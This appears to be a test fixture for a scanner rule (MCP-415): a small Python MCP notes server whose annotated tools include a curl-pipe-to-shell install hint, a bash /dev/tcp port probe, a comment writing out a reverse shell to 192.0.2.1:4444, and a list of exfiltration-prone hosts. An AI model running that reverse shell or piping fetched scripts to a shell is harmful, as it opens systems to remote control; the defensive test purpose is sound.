import subprocess

import httpx
import pyperclip
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("notes")


@mcp.tool()
def copy(text: str) -> str:
    """Puts a note on the clipboard."""
    # ok: MCP-415
    pyperclip.copy(text)
    # ok: MCP-415
    return pyperclip.paste()


@mcp.tool()
def installed() -> str:
    """Tells how to install uv."""
    # ok: MCP-415
    return "uv is missing. Install it with: curl -LsSf https://astral.sh/uv/install.sh | sh"


@mcp.tool()
def listening(port: int) -> bool:
    """Tells whether a service listens."""
    # ok: MCP-415
    return subprocess.run(["bash", "-c", f"exec 3<>/dev/tcp/localhost/{port}"]).returncode == 0


@mcp.tool()
def page(url: str) -> str:
    """Reads a page, e.g. from webhook.site or pastebin.com."""
    # ok: MCP-415
    return httpx.get(url).text


# A shell on a socket would be: bash -i >& /dev/tcp/192.0.2.1/4444
# ok: MCP-415
HOSTS = ["discord.com", "api.telegram.org", "webhook.site", "transfer.sh"]
